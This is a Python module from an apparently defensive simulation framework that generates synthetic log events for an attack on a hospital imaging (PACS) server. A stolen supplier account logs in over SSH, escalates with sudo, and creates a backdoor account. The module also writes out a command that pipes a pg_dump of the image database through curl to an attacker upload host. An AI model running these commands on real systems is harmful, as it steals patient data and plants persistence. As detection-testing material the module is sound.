"""A supplier's account abused: whoever has the password of ``pacs-maint`` comes at night and carries the images' database away.

Each establishment is entered from another rented server, over SSH or over the VPN. With an even seed the loot goes to one server, with
an odd one to two, and then the account is all that they share.
"""

from collections.abc import Iterator
from datetime import datetime, timedelta
from random import Random

from schemas.detection import Entity
from tocsin.simulation import ssh
from tocsin.simulation.campaigns.campaign import HOSTERS, Campaign, Server, Setting, Strike
from tocsin.simulation.clock import after
from tocsin.simulation.days import internet
from tocsin.simulation.days.remote_work import inside
from tocsin.simulation.happenings import Happening, Tunnel
from tocsin.simulation.places import PACS, PACS_SUPPLIER, Place

NAME = "compte-fournisseur"
SITES = 2
BETWEEN = (1800, 4500)
"""Seconds from one establishment to the next."""
ROOM = timedelta(hours=4)
NEW_ACCOUNTS = ("svc-archive", "sauvegarde2", "dicomsvc", "support-it")


def campaign(setting: Setting) -> Campaign:
    """Two establishments of two trust domains, in one night."""
    rng = setting.rng
    places = setting.pick(SITES, "linux_auth")
    one, other = setting.server(0, "depot"), setting.server(1, "archive")
    loot = (one, one) if setting.seed % 2 == 0 else (one, other)
    over_vpn = rng.randrange(2 * SITES)
    begin = setting.hour(2.2, 3.2, ROOM)
    strikes = []
    for number, place in enumerate(places):
        strikes.append(_strike(rng, place, begin, setting.addresses[2 + number], loot[number], over_vpn=number == over_vpn))
        begin = after(rng, begin, *BETWEEN)
    return Campaign(NAME, tuple(strikes))


def _strike(rng: Random, place: Place, begin: datetime, entry: str, loot: Server, *, over_vpn: bool) -> Strike:
    account = Entity(kind="supplier", value=PACS_SUPPLIER)
    indicators = (account, Entity(kind="ip", value=entry), *loot.indicators)
    return Strike(place, tuple(_happens(rng, begin, entry, loot, over_vpn=over_vpn)), indicators)


def _happens(rng: Random, moment: datetime, entry: str, loot: Server, *, over_vpn: bool) -> Iterator[Happening]:
    comes_from = entry
    if over_vpn:
        machine = inside(rng)
        yield Tunnel(moment, "opened", PACS_SUPPLIER, entry, rng.choice(HOSTERS), machine.ip, rng.getrandbits(31))
        comes_from, moment = machine.ip, after(rng, moment, 30, 120)
    for _ in range(rng.randrange(3)):
        yield from ssh.failed(ssh.connection(rng, PACS, comes_from), moment, PACS_SUPPLIER)
        moment = after(rng, moment, 5, 30)
    who = ssh.connection(rng, PACS, comes_from)
    yield from ssh.accepted(who, moment, PACS_SUPPLIER, "password")
    moment = after(rng, moment, 60, 300)
    yield from ssh.sudo(moment, PACS, PACS_SUPPLIER, "/bin/bash")
    moment, new = after(rng, moment, 60, 300), rng.choice(NEW_ACCOUNTS)
    adds = ssh.added(rng, moment, PACS, new)
    yield from ssh.sudo(moment, PACS, PACS_SUPPLIER, f"/usr/sbin/useradd -m -s /bin/bash {new}", does=adds)
    moment = after(rng, moment, 120, 600)
    url = f"https://up.{loot.domain}/r/{rng.getrandbits(40):010x}"
    yield from ssh.sudo(moment, PACS, PACS_SUPPLIER, f"/bin/sh -c pg_dump -U postgres pacsdb | curl -s -T - {url}")
    country = rng.choice(HOSTERS)
    sent = rng.randrange(4 * 10**8, 4 * 10**9)
    yield from internet.outward(rng, moment, PACS, f"up.{loot.domain}", loot.ip, sent=sent, country=country)
    yield from ssh.left(who, after(rng, moment, 600, 1800), PACS_SUPPLIER)
